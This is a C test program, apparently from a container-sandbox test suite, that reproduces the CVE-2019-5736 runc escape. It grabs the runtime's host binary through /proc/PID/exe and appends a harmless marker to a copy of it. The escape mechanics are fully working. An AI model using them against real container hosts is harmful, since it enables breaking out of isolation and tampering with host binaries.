/* /proc/self/exe overwrite, in the style of CVE-2019-5736 (runc): when the
 * runtime enters the container (boxlab exec), its process is briefly
 * visible inside, and /proc/PID/exe of it is the runtime's binary on the
 * host.  The attack grabs it (O_PATH), waits until no process runs it any
 * more (ETXTBSY until then), reopens it for writing and appends a marker.
 * The host runs a COPY of boxlab for this (never the real binary), and
 * execs the trigger script "#!/proc/self/exe", which makes the runtime
 * re-execute itself inside the container, as the original exploit did
 * with /bin/sh.  ARG: the copy's name (its processes' comm). */
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <time.h>

static long now_ms(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static int try_pid(const char *pid, const char *copy, const char *trigger, int *last_errno)
{
	char path[300], comm[32] = "";
	snprintf(path, sizeof path, "/proc/%s/comm", pid);
	if (bxa_read_file(path, comm, sizeof comm) < 0 || (strcmp(comm, copy) && strcmp(comm, trigger)))
		return -1;
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int fd = open(path, O_PATH);
	if (fd < 0)
		*last_errno = errno;
	return fd;
}

/* The runtime is a new process: look at the newest pids (the kernel's
 * ns_last_pid) rather than all of /proc, or a host with a thousand
 * processes (no pid namespace) hides the short window. */
static int grab(const char *copy, const char *trigger, int *last_errno)
{
	char buf[32], pid[24];
	if (bxa_read_file("/proc/sys/kernel/ns_last_pid", buf, sizeof buf) == 0) {
		long last = atol(buf);
		int fd = -1;
		for (long p = last; fd < 0 && p > 0 && p > last - 64; p--) {
			snprintf(pid, sizeof pid, "%ld", p);
			fd = try_pid(pid, copy, trigger, last_errno);
		}
		return fd;
	}
	DIR *d = opendir("/proc");
	struct dirent *e;
	int fd = -1;
	while (d && fd < 0 && (e = readdir(d)))
		if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
			fd = try_pid(e->d_name, copy, trigger, last_errno);
	if (d)
		closedir(d);
	return fd;
}

int main(int argc, char **argv)
{
	char **a = bxa_init(argc, argv, 1, "RUNTIME_COPY_NAME");
	char trigger[4096], tname[16];
	snprintf(tname, sizeof tname, "bxt%s", bxa_nonce);
	snprintf(trigger, sizeof trigger, "%s/%s", bxa_scratch, tname);
	int t = open(trigger, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (t < 0 || write(t, "#!/proc/self/exe\n", 17) != 17)
		return bxa_fail("write %s", trigger);
	close(t);
	printf("READY %s\n", trigger);
	int fd = -1, err = ENOENT;
	long start = now_ms();
	while (fd < 0 && now_ms() - start < 6000)
		fd = grab(a[0], tname, &err);
	if (fd < 0) {
		errno = err;
		return bxa_fail(err == ENOENT ? "never saw the runtime inside" : "open /proc/PID/exe of the runtime");
	}
	printf("GOT the runtime's binary as fd %d\n", fd);
	char self[64];
	snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
	int w = -1;
	start = now_ms();
	while ((w = open(self, O_WRONLY | O_APPEND)) < 0 && errno == ETXTBSY && now_ms() - start < 4000)
		usleep(5000);
	if (w < 0)
		return bxa_fail("reopen the runtime's binary for writing");
	char mark[64];
	snprintf(mark, sizeof mark, "\nBXA-EXE-%s\n", bxa_nonce);
	if (write(w, mark, strlen(mark)) < 0)
		return bxa_fail("write the runtime's binary");
	close(w);
	bxa_claim(1, "appended a marker to the runtime's binary on the host");
	return 0;
}
